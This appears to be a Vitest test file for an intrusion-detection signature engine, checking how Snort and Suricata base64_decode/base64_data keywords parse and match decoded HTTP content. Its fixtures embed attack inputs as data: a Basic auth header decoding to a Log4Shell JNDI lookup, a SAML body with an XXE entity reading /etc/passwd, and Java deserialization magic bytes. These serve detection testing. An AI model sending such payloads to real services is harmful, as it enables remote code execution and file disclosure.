/** `base64_decode` / `base64_data`: parsed in every flavour, and matched on what the run decodes to. */
import { describe, expect, it } from 'vitest';
import { fires, gateFor } from '../match-helpers.js';
import { parseText } from '../parse-helpers.js';
import { buildInspection, inspectRequest } from '../fixtures.js';
import { matchedText } from '../../../src/signatures/match/decoded-views.js';

const b64 = (s: string): string => Buffer.from(s, 'latin1').toString('base64');
const SURICATA = 'alert http any any -> any any';

describe('base64_decode / base64_data', () => {
  it('matches a Basic credential that decodes to a JNDI lookup (Talos Snort 3 style)', () => {
    const rule = 'http_header; content:"Authorization: Basic "; base64_decode:relative; base64_data; content:"${jndi:";';
    expect(fires(rule, { headers: [['Host', 'a'], ['Authorization', `Basic ${b64('${jndi:ldap://x.example/a}:pw')}`]] }, 'snort3')).toBe(true);
    expect(fires(rule, { headers: [['Host', 'a'], ['Authorization', `Basic ${b64('alice:secret')}`]] }, 'snort3')).toBe(false);
  });

  it('decodes from the cursor plus offset, at most `bytes` encoded bytes (ET SAML style)', () => {
    const body = `SAMLResponse=${b64('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>')}&RelayState=x`;
    const rule = (bytes: number) => `http.request_body; content:"SAMLResponse="; startswith; base64_decode:bytes ${bytes}, offset 0, relative; base64_data; content:"<!DOCTYPE"; content:"SYSTEM"; distance:0;`;
    expect(fires(rule(300), { method: 'POST', url: '/sso', body }, 'suricata')).toBe(true);
    expect(fires(rule(40), { method: 'POST', url: '/sso', body }, 'suricata')).toBe(false);
  });

  it('reads the decoded bytes as latin1 (binary magic by hex)', () => {
    const body = `blob=${Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72]).toString('base64')}`;
    expect(fires('http.request_body; content:"blob="; base64_decode:relative; base64_data; content:"|ac ed 00 05|"; startswith;', { method: 'POST', url: '/x', body }, 'suricata')).toBe(true);
  });

  it('fails when nothing decodes, and a negated content after it does not turn that into a match', () => {
    expect(fires('http.request_body; content:"blob="; base64_decode:relative; base64_data; content:!"x";', { method: 'POST', url: '/x', body: 'blob=&' }, 'suricata')).toBe(false);
  });

  it('rejects base64_data without base64_decode, and unknown arguments, with the keyword named', () => {
    const [a] = parseText(`${SURICATA} (base64_data; content:"x"; sid:1;)`, 'suricata').entries;
    expect(a).toMatchObject({ status: 'rejected', code: 'WARDEN_SIGNATURES_BAD_OPTION' });
    expect(a.reason).toContain('base64_data');
    const [b] = parseText(`${SURICATA} (content:"x"; base64_decode:bits 3; sid:1;)`, 'suricata').entries;
    expect(b).toMatchObject({ status: 'rejected' });
    expect(b.reason).toContain('base64_decode');
  });

  it('is never a prefilter literal: a rule whose only literal is in the decoded data still runs', () => {
    const gate = gateFor(`${SURICATA} (http.request_body; base64_decode; base64_data; content:"secret-marker"; sid:1;)`, 'suricata');
    expect(gate.evaluate(buildInspection({ method: 'POST', url: '/x', body: b64('a secret-marker b') })).hits).toHaveLength(1);
  });
  it('reports the hit in the field it decoded from, so the incident shows the decoded bytes that matched', () => {
    const gate = gateFor(`${SURICATA} (http.header; content:"Authorization: Basic "; base64_decode:relative; base64_data; content:"admin:"; sid:1;)`, 'suricata');
    // The real inspector, which makes the header's decoded forms (buildInspection makes none).
    const inspection = inspectRequest({ headers: [['Host', 'a'], ['Authorization', `Basic ${b64('admin:hunter2')}`]] });
    const [hit] = gate.evaluate(inspection).hits;
    expect(inspection.targets[hit.targetIndex]).toMatchObject({ location: 'header', name: 'Authorization' });
    expect(hit.decoded).toContain('base64');
    expect(hit.offset).toBeGreaterThanOrEqual(0);
    expect(matchedText(inspection, hit)).toBe('admin:');
  });
});
